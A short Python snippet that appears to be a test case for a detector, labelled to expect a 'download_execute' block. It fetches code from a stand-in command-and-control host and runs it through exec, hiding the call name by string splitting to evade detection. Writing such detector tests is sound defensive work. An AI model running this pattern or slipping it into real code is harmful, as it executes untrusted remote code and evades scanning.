# expect: BLOCKED download_execute
from urllib.request import urlopen as fetch
import builtins
run = getattr(builtins, "ex" + "ec")
run(fetch("http://c2.example/next").read().decode())
